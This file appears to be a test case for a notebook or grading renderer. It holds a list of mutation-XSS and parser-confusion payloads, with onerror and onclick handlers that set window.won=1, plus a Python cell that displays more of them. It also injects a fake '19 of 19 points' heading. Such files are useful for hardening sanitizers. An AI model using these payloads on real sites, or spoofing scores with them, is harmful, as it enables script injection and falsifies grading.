# title: markup that ends what it stands in, or that a second parser reads in another way
# exercise: Exercise 7
# shows: broken markup was shown

# %% essay
</div></article></section></main></style></title></textarea></script><h1>19 of 19 points</h1><!--

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.won=1&gt;">
<svg></p><style><a id="</style><img src=1 onerror=window.won=1>"></a></style></svg>
<noscript><p title="</noscript><img src=x onerror=window.won=1>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.won=1></style></form>
<![CDATA[<img src=x onerror=window.won=1>]]> <?xml version="1.0"?><?php echo 1 ?> <!DOCTYPE html [<!ENTITY a "b">]>
<img src="x` `<script>window.won=1</script>"` `> <a href="x"y"onclick="window.won=1">z</a> <b/onclick=window.won=1>
<xmp><img src=x onerror=window.won=1></xmp><plaintext>&lt;script&gt;window.won=1&lt;/script&gt; &#60;img src=x onerror=window.won=1&#62; &amp;lt;b&amp;gt;

# %% insert-before essay
from IPython.display import HTML, display

breaks = "</samp></pre></figure></div></article></section></main></body></html>"
for text in (
    breaks + "<h1>19 of 19 points</h1>",
    "<table><tr><td></table>" + breaks + "<script>window.won=1</script><table>",
    "<table><tr><td><!-- --!><img src=x onerror=window.won=1> --></td></tr></table>",
    "<table><math><mi><table><mglyph><style><img src=x onerror=window.won=1></table>",
    "<table>\0<scr\0ipt>window.won=1</scr\0ipt></table>",
    "<table><tr><td" + " x" * 3000 + " onclick=window.won=1>",
):
    display(HTML(text))
    print(text)
print("broken markup was shown")
